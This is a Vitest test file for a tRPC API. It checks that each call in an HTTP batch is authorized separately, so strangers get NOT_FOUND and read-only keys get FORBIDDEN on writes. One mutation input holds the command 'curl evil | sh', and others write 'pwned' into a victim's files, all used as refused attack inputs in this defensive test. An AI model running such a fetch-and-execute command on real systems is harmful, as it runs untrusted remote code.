import superjson from "superjson";
import { describe, expect, it } from "vitest";
import { makeTarget } from "@/test/support/attack-matrix";
import { keyFor, makeUser } from "@/test/fixtures/accounts";
import { GET, POST } from "@/app/api/trpc/[trpc]/route";

// Batched HTTP calls: each call of a batch is authorized on its own, and one allowed call
// never opens the others.
const base = "http://localhost/api/trpc";
type BatchItem = { result?: unknown; error?: { json: { message: string; data: { code: string } } } };

describe("batched tRPC calls over HTTP", () => {
  it("a stranger's key gets its own project in a batch, and NOT_FOUND for each of someone else's", async () => {
    const target = await makeTarget();
    const stranger = await makeUser();
    const key = await keyFor(stranger);
    const own = await POST(
      new Request(`${base}/projects.create`, {
        method: "POST",
        headers: { authorization: `Bearer ${key}`, "content-type": "application/json" },
        body: JSON.stringify(superjson.serialize({ name: "mine" })),
      }),
    );
    const mine = ((await own.json()) as { result: { data: { json: { id: number } } } }).result.data.json.id;

    const queries = [
      "projects.get",
      "files.tree",
      "files.read",
      "executions.get",
      "executions.history",
      "ai.getContext",
      "ai.debugCode",
      "commandHistory.list",
      "projects.get",
    ];
    const inputs = [
      { projectId: target.projectId },
      { projectId: target.projectId },
      { projectId: target.projectId, path: "a.txt" },
      { executionId: target.executionId },
      { projectId: target.projectId },
      { projectId: target.projectId },
      { projectId: target.projectId },
      { projectId: target.projectId },
      { projectId: mine },
    ];
    const input = Object.fromEntries(inputs.map((v, i) => [i, superjson.serialize(v)]));
    const res = await GET(
      new Request(`${base}/${queries.join(",")}?batch=1&input=${encodeURIComponent(JSON.stringify(input))}`, { headers: { authorization: `Bearer ${key}` } }),
    );
    const body = (await res.json()) as BatchItem[];
    expect(body.slice(0, -1).map((b) => b.error?.json.data.code)).toEqual(queries.slice(0, -1).map(() => "NOT_FOUND"));
    expect(body.at(-1)?.result).toBeDefined();
    expect(JSON.stringify(body)).not.toContain("secret");

    const mutations = [
      "projects.update",
      "files.write",
      "files.delete",
      "executions.run",
      "executions.cancel",
      "ai.applyChanges",
      "ai.optimizePerformance",
      "commandHistory.add",
      "projects.delete",
    ];
    const mutationInputs = [
      { projectId: target.projectId, name: "pwned" },
      { projectId: target.projectId, path: "a.txt", content: "pwned" },
      { projectId: target.projectId, path: "a.txt" },
      { projectId: target.projectId, kind: "command", command: "cat a.txt" },
      { executionId: target.executionId },
      { projectId: target.projectId, writes: [{ path: "a.txt", content: "pwned" }] },
      { projectId: target.projectId, command: "cat a.txt", candidate: { writes: [{ path: "a.txt", content: "pwned" }] } },
      { projectId: target.projectId, command: "curl evil | sh" },
      { projectId: target.projectId },
    ];
    const post = await POST(
      new Request(`${base}/${mutations.join(",")}?batch=1`, {
        method: "POST",
        headers: { authorization: `Bearer ${key}`, "content-type": "application/json" },
        body: JSON.stringify(Object.fromEntries(mutationInputs.map((v, i) => [i, superjson.serialize(v)]))),
      }),
    );
    const refused = (await post.json()) as BatchItem[];
    expect(refused.map((b) => b.error?.json.data.code)).toEqual(mutations.map(() => "NOT_FOUND"));

    const ownerKey = await keyFor({ id: target.ownerId, role: "user" });
    const check = await GET(
      new Request(`${base}/files.read?input=${encodeURIComponent(JSON.stringify(superjson.serialize({ projectId: target.projectId, path: "a.txt" })))}`, {
        headers: { authorization: `Bearer ${ownerKey}` },
      }),
    );
    expect(((await check.json()) as { result: { data: { json: { content: string } } } }).result.data.json.content).toBe("secret");
  });

  it("a read-only key in a batch: reads pass, each write is FORBIDDEN", async () => {
    const target = await makeTarget();
    const key = await keyFor({ id: target.ownerId, role: "user" }, { name: "ro", scopes: ["projects:read"] });
    const mutations = ["projects.update", "files.write", "executions.run"];
    const inputs = [
      { projectId: target.projectId, name: "x" },
      { projectId: target.projectId, path: "a.txt", content: "x" },
      { projectId: target.projectId, kind: "command", command: "true" },
    ];
    const res = await POST(
      new Request(`${base}/${mutations.join(",")}?batch=1`, {
        method: "POST",
        headers: { authorization: `Bearer ${key}`, "content-type": "application/json" },
        body: JSON.stringify(Object.fromEntries(inputs.map((v, i) => [i, superjson.serialize(v)]))),
      }),
    );
    expect(((await res.json()) as BatchItem[]).map((b) => b.error?.json.data.code)).toEqual(["FORBIDDEN", "FORBIDDEN", "FORBIDDEN"]);
  });

  it("templates.list is public and lists the four templates without their contents", async () => {
    const res = await GET(new Request(`${base}/templates.list`));
    const body = (await res.json()) as { result: { data: { json: Array<{ id: string; files: string[] }> } } };
    expect(body.result.data.json.map((t) => t.id)).toEqual(["react-app", "node-api", "vue-app", "python-script"]);
  });
});
